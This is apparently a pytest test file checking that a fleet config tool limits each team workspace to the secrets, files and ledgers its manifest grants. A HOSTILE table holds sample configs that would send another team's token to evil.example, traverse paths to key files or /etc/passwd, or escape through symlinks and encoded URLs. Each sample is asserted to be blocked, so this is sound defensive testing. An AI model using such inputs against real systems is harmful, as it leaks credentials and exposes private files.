"""Shared connections of a fleet, and what a workspace can use of its own: only what the manifest grants to it."""

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from answers_kit import Answers, answering
from command_kit import Shell
from config.errors import ConfigError
from config.fleet import find_fleet
from config.grants import Grants
from config.secrets import Secret, UnsetSecretError
from connectors.google_sheets.auth import log_in
from connectors.registry import Context
from golden_files import check_golden
from syncer.fleet.members import Member, open_members

CONFIG = """\
workspace: {{id: {id}}}
cycle: 2026-Q4
timezone: Asia/Taipei
okr_sheet: {{file: okrs.xlsx}}
{more}
measures:
  deals: {{from: {reads}, value: sum(amount)}}
objectives:
  O1: {{title: Grow, key_results: {{KR1: {{title: Close deals, baseline: 0, target: 100, measure: deals}}}}}}
"""
SHARED = "crm.json, url: /deals"
OWN = "own.json, url: /deals"
FLEET_TOKEN, TEAM_TOKEN, OTHER_TOKEN = "fleet-token-55512", "team-token-90821", "other-token-31337"


class Company:
    """A folder with a manifest, whose connection `crm` is a service on loopback, and a workspace a team."""

    def __init__(self, shell: Shell, answers: Answers) -> None:
        self.shell, self.answers = shell, answers
        self.folder = shell.folder
        for place, text in (
            ("keys/crm", FLEET_TOKEN),
            ("keys/ads/own", TEAM_TOKEN),
            ("keys/core/own", OTHER_TOKEN),
            ("exports/deals.csv", "amount\n7\n"),
        ):
            file = self.folder / place
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text, "utf-8")
            file.chmod(0o600)
        answers.give([{"amount": 60}])
        self.manifest()

    def manifest(self, granted: str = "", more: str = "") -> None:
        (self.folder / "fleet.yaml").write_text(
            "workspaces:\n"
            "  - teams/*/okrsync.yaml\n"
            f"  - {{path: teams/ads/okrsync.yaml{granted}}}\n"
            "connections:\n"
            f"  crm: {{type: http, url: '{self.answers.url}', token: 'file:keys/crm'}}\n"
            f"{more}",
            "utf-8",
        )

    def add(self, name: str = "ads", reads: str = SHARED, more: str = "") -> Path:
        folder = self.folder / "teams" / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "okrsync.yaml").write_text(CONFIG.format(id=f"{name}-2222", reads=reads, more=more), "utf-8")
        return folder

    def members(self) -> list[Member]:
        return open_members(find_fleet(self.folder).terms)

    def sent(self) -> list[str]:
        return [request.headers.get("authorization", "") for request in self.answers.seen]


@pytest.fixture
def company(shell: Shell) -> Iterator[Company]:
    with answering() as answers:
        yield Company(shell, answers)


def own(url: str, token: str) -> str:
    return f"connections: {{own: {{type: http, url: '{url}', token: '{token}'}}}}"


def test_workspaces_use_the_connections_of_the_fleet(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("ads", "core"):
        folder = company.add(name)
        alone = company.shell.run("dry-run", "-c", str(folder / "okrsync.yaml"))
        assert alone.code == 1
        assert "crm: declared in fleet.yaml. Run the command with OKRSYNC_FLEET=fleet.yaml" in alone.err
        monkeypatch.setenv("OKRSYNC_FLEET", "fleet.yaml")
        made = company.shell.run("init", str(folder), "--sheet", "--yes")
        assert made.code == 0, made.err
        monkeypatch.delenv("OKRSYNC_FLEET")
    assert company.shell.run("fleet", "check").code == 0
    done = company.shell.run("fleet", "sync", "--format", "json")
    assert [one["outcome"] for one in json.loads(done.out)["workspaces"]] == ["synced", "synced"], done.err
    assert company.sent() == [f"Bearer {FLEET_TOKEN}"] * 2


def test_a_config_that_the_manifest_does_not_list(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = company.add("elsewhere")
    company.add()
    (company.folder / "fleet.yaml").write_text(
        (company.folder / "fleet.yaml").read_text("utf-8").replace("teams/*/okrsync", "teams/a*/okrsync"), "utf-8"
    )
    monkeypatch.setenv("OKRSYNC_FLEET", "fleet.yaml")
    done = company.shell.run("dry-run", "-c", str(folder / "okrsync.yaml"))
    assert "crm: declared in fleet.yaml. List this config under its `workspaces`." in done.err


@pytest.mark.parametrize(
    ("granted", "token"),
    [
        (", secrets: [$TEAM_ADS_*]", "$TEAM_ADS_CRM"),
        (", secrets: $TEAM_ADS_CRM", "${TEAM_ADS_CRM}"),
        (", secrets: ['file:keys/ads']", "file:../../keys/ads/own"),
        (", secrets: ['file:keys/ads/*']", "file:../../keys/ads/own"),
    ],
)
def test_granted_secrets_go_where_the_workspace_sends_them(
    company: Company, monkeypatch: pytest.MonkeyPatch, granted: str, token: str
) -> None:
    monkeypatch.setenv("TEAM_ADS_CRM", TEAM_TOKEN)
    company.manifest(granted, "allow_addresses: 127.0.0.1\n")
    folder = company.add(reads=OWN, more=own(company.answers.url, token))
    monkeypatch.setenv("OKRSYNC_FLEET", "fleet.yaml")
    made = company.shell.run("init", str(folder), "--sheet", "--yes")
    assert made.code == 0, made.err
    assert company.shell.run("fleet", "sync").code == 0
    assert company.sent() == [f"Bearer {TEAM_TOKEN}"]


LINKS = {
    "key": "keys/core/own",
    "data.csv": "exports/deals.csv",
    "sheet.xlsx": "exports/deals.csv",
    ".okrsync": "exports",
}
FILES = "files.rows, path: {path}"
GOOGLE = "connections: {own: {type: google_sheets%s}}"
HOSTILE = {
    "another team's variable": (OWN, own("https://evil.example", "$CORE_TOKEN")),
    "the fleet's variable": (OWN, own("https://evil.example", "${FLEET_TOKEN}")),
    "a variable whose name begins alike": (OWN, own("https://evil.example", "$TEAM_AD_TOKEN")),
    "another team's file": (OWN, own("https://evil.example", "file:../../keys/core/own")),
    "out of the granted folder": (OWN, own("https://evil.example", "file:../../keys/ads/../core/own")),
    "a link out of the granted folder": (OWN, own("https://evil.example", "file:../../keys/ads/link")),
    "a link in its own folder": (OWN, own("https://evil.example", "file:key")),
    "the keyring": (OWN, own("https://evil.example", "keyring:core/own")),
    "an unused connection": (SHARED, own("https://evil.example", "$CORE_TOKEN")),
    "an account name": (
        SHARED,
        "connections: {own: {type: jira, url: 'https://evil.example', email: $CORE_TOKEN, token: $TEAM_ADS_A}}",
    ),
    "a header": (
        SHARED,
        "connections: {own: {type: http, url: 'https://evil.example', headers: {X-Key: $CORE_TOKEN}}}",
    ),
    "a query parameter": (
        SHARED,
        "connections: {own: {type: http, url: 'https://evil.example', params: {api_key: $CORE_TOKEN}}}",
    ),
    "the password of Basic sign-in": (
        SHARED,
        "connections: {own: {type: http, url: 'https://evil.example', password: $CORE_TOKEN}}",
    ),
    "a client's secret": (
        SHARED,
        "connections: {own: {type: http, url: 'https://evil.example', token_url: 'https://evil.example', client_id: a, client_secret: $CORE_TOKEN}}",  # noqa: E501
    ),
    "the machine's Google account": (SHARED, "connections: {own: {type: google_sheets, url: 'https://evil.example'}}"),
    "a connection of the fleet's name": (SHARED, "connections: {crm: {type: http, url: 'https://evil.example'}}"),
    "a webhook": (SHARED, "notify: {room: {type: discord, url: $CORE_TOKEN}}"),
    "a person's webhook": (SHARED, "notify: {room: {type: teams, owners: {Ann: $CORE_TOKEN}}}"),
    "the password of mail": (
        SHARED,
        "notify: {room: {type: mail, host: evil.example, sender: a@b, to: c@d, user: u, password: $CORE_TOKEN}}",
    ),
    "the ledger's variable": (SHARED, "ledger: $CORE_TOKEN"),
    "a ledger elsewhere with the machine's password": (SHARED, "ledger: postgresql://evil.example/okrs"),
    "a ledger in a database file": (SHARED, "ledger: sqlite:///../core/.okrsync/ledger.db"),
    "another team's ledger": (SHARED, "ledger: ../core/.okrsync/ledger.db"),
    "a ledger behind a link": (SHARED, "ledger: .okrsync/ledger.db"),
    "certificates elsewhere": (
        SHARED,
        "connections: {own: {type: http, url: 'https://evil.example', ca_bundle: ../../keys/crm}}",
    ),
    "rows of another file": (FILES.format(path="../../keys/crm"), ""),
    "rows behind a link": (FILES.format(path="data.csv"), ""),
    "rows of the machine": (FILES.format(path="/etc/passwd"), ""),
    "includes elsewhere": (SHARED, "include: ../core/*.yaml"),
    "another team's workbook": (SHARED, ""),
    "a workbook behind a link": (SHARED, ""),
}
SHEETS = {"another team's workbook": "../core/okrs.xlsx", "a workbook behind a link": "sheet.xlsx"}


def test_workspaces_that_ask_for_more_than_is_granted(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("CORE_TOKEN", "FLEET_TOKEN", "TEAM_AD_TOKEN", "TEAM_ADS_A"):
        monkeypatch.setenv(name, OTHER_TOKEN)
    company.manifest(", secrets: [$TEAM_ADS_*, 'file:keys/ads', 'keyring:ads/*']")
    (company.folder / "keys/ads/link").symlink_to(company.folder / "keys/core/own")
    texts = []
    for what, (reads, more) in HOSTILE.items():
        folder = company.add(reads=reads, more=more)
        for name, target in LINKS.items():
            (folder / name).unlink(missing_ok=True)
            if name != ".okrsync" or "ledger" in what:
                (folder / name).symlink_to(os.path.relpath(company.folder / target, folder))
        if what in SHEETS:
            file = folder / "okrsync.yaml"
            file.write_text(file.read_text("utf-8").replace("okrs.xlsx", SHEETS[what]), "utf-8")
        [ads] = company.members()
        assert isinstance(ads.error, ConfigError), what
        texts.append(f"{what}\n{ads.error}\n")
        assert OTHER_TOKEN not in str(ads.error)
    assert company.answers.seen == []
    check_golden("fleet_hostile.txt", "\n".join(texts).replace(str(company.folder), "FOLDER"))


def test_what_only_shows_when_a_file_is_read(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = company.add(reads=FILES.format(path="'{as_of}.csv'"))
    monkeypatch.setenv("OKRSYNC_FLEET", "fleet.yaml")
    assert company.shell.run("init", str(folder), "--sheet", "--yes").code == 0
    (folder / "2026-11-16.csv").symlink_to(company.folder / "exports/deals.csv")
    done = company.shell.run("dry-run", "-c", str(folder / "okrsync.yaml"))
    assert "is outside the config's folder; fleet.yaml can grant it under `files`" in done.err
    company.manifest(", files: exports")
    assert company.shell.run("dry-run", "-c", str(folder / "okrsync.yaml")).code == 0


def test_a_key_file_whose_path_a_granted_secret_holds(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    other = company.folder / "keys/core/google.json"
    other.write_text("{}", "utf-8")
    monkeypatch.setenv("TEAM_ADS_GOOGLE", str(other))
    company.manifest(", secrets: [$TEAM_ADS_*, 'file:keys/ads']")
    company.add(more=GOOGLE % ", service_account: $TEAM_ADS_GOOGLE")
    [ads] = company.members()
    assert ads.opened, ads.error
    connection = ads.opened.config.workspace.connections["own"]
    with pytest.raises(Exception, match=r"the key file cannot be read \(PermissionError\)"):
        log_in("own", connection, Context(ads.file.parent), "scope")  # type: ignore[arg-type] # it is one of Google Sheets


def test_one_reference_in_two_folders_is_two_accounts(company: Company) -> None:
    """Else the token of the fleet's account would go to the address that a workspace states."""
    made = {}
    for name in ("fleet", "own"):
        secret = Secret("file:google.json", company.folder / name)
        made[name] = f"{secret} of {secret.base_dir}"
    assert len(set(made.values())) == 2


def test_a_workspace_cannot_reach_this_machine(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEAM_ADS_CRM", TEAM_TOKEN)
    company.manifest(", secrets: [$TEAM_ADS_*]")
    folder = company.add(reads=OWN, more=own(company.answers.url, "$TEAM_ADS_CRM"))
    monkeypatch.setenv("OKRSYNC_FLEET", "fleet.yaml")
    assert company.shell.run("init", str(folder), "--sheet", "--yes").code == 0
    check_golden("fleet_loopback.txt", company.shell.output_of(("fleet", "sync")))
    assert company.answers.seen == []


def test_a_measure_of_a_fleet_connection_stays_below_its_address(
    company: Company, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OKRSYNC_FLEET", "fleet.yaml")
    for url in ("https://evil.example/deals", "//evil.example/deals", "/../../elsewhere", "/a/..%2f..%2felsewhere"):
        folder = company.add(reads=f"crm.json, url: '{url}'")
        company.shell.run("init", str(folder), "--sheet", "--yes")
        done = company.shell.run("fleet", "sync", "--format", "json")
        [ads] = json.loads(done.out)["workspaces"]
        assert ads["outcome"] != "synced", url
    assert company.answers.seen == []


def test_configs_behind_links(company: Company) -> None:
    core = company.add("core")
    ads = company.add("ads")
    (ads / "okrsync.yaml").unlink()
    (ads / "okrsync.yaml").symlink_to(core / "okrsync.yaml")
    found = find_fleet(company.folder)
    assert [path.parent.name for path in found.configs] == ["core"]
    assert [problem.path for problem in found.problems] == ["workspaces.1", "workspaces.2"]


def test_who_limits_nobody(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CORE_TOKEN", OTHER_TOKEN)
    (company.folder / "fleet.yaml").write_text("workspaces: [teams/*/okrsync.yaml]\n", "utf-8")
    company.add(reads=OWN, more=own(company.answers.url, "$CORE_TOKEN"))
    [ads] = company.members()
    assert ads.opened
    assert ads.opened.config.terms.grants is None


@pytest.mark.parametrize(
    ("granted", "more", "saw"),
    [
        (", secrets: [TEAM_ADS]", "", "workspaces.2.secrets.1  must be such as $TEAM_A_*, keyring:team-a/* or file:"),
        (", secrets: ['keyring:*']", "", "workspaces.2.secrets.1  must be such as"),
        (", secrets: ['file:keys/*/own']", "", "workspaces.2.secrets.1  must be such as"),
        (", secret: [$A]", "", "workspaces.2.secret  unknown option; did you mean 'secrets'?"),
        ("", "allow_addresses: [https://jira.internal]\n", "allow_addresses.1  is not an address; write 10.0.0.0/8"),
        ("", "  jira: {type: jira, url: https://j.example}\n", "connections.jira.token  is required: API token"),
        ("", "  jira: {type: jria}\n", "connections.jira  'jria' is not one of jira, github, gitlab"),
        ("", "  Jira: {type: http, url: https://j.example}\n", "connections.Jira  must be a name of small letters"),
        ("", "  crm2: {type: http, url: https://j.example, token: abc}\n", "a secret does not belong in the config"),
        ("", "  crm2: {type: http, url: https://j.example, tokn: $A}\n", "connections.crm2.tokn  unknown option"),
    ],
)
def test_a_manifest_that_is_wrong(company: Company, granted: str, more: str, saw: str) -> None:
    company.manifest(granted, more)
    company.add()
    done = company.shell.run("fleet", "check")
    assert (done.code, saw in done.err) == (1, True), done.err


def test_a_secret_of_the_fleet_that_is_missing_names_the_manifest(company: Company) -> None:
    company.add()
    (company.folder / "keys/crm").unlink()
    [ads] = company.members()
    assert isinstance(ads.error, ConfigError)
    assert [(one.file, one.path) for one in ads.error.problems] == [("fleet.yaml", "connections.crm.token")]


def test_an_error_that_many_workspaces_share_is_shown_once(company: Company) -> None:
    for name in ("ads", "core", "east"):
        company.add(name)
    (company.folder / "keys/crm").unlink()
    check_golden(
        "fleet_shared_error.txt",
        "".join(company.shell.output_of(("fleet", command)) for command in ("check", "sync")),
    )


def test_an_ungranted_secret_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEAM_B", OTHER_TOKEN)
    grants = Grants(tmp_path / "fleet.yaml", tmp_path / "a", ("$TEAM_A*",))
    with pytest.raises(UnsetSecretError, match=r"\$TEAM_B is not granted to this workspace"):
        Secret("$TEAM_B", grants=grants).reveal()


@pytest.mark.parametrize("ledger", ["postgresql://{place}/okrs", "$OTHER_LEDGER", "../core/.okrsync/ledger.db"])
def test_no_command_opens_a_ledger_that_is_not_granted(
    company: Company, monkeypatch: pytest.MonkeyPatch, ledger: str
) -> None:
    monkeypatch.setenv("OTHER_LEDGER", "../core/.okrsync/ledger.db")
    monkeypatch.setenv("PGPASSWORD", OTHER_TOKEN)
    company.add(more=f"ledger: {ledger.format(place=company.answers.url.partition('//')[2].partition('/')[0])}")
    for command in (("sync",), ("status",), ("pause", "ads-2222"), ("resume", "ads-2222"), ("check",)):
        assert company.shell.run("fleet", *command).code == 1
    found = json.loads(company.shell.run("fleet", "status", "--format", "json").out)["workspaces"]
    assert [(one["id"], one["condition"]) for one in found if one["id"] == "ads-2222"] == [("ads-2222", "unreadable")]
    assert company.answers.seen == []
    assert not list(company.folder.glob("teams/core/**"))
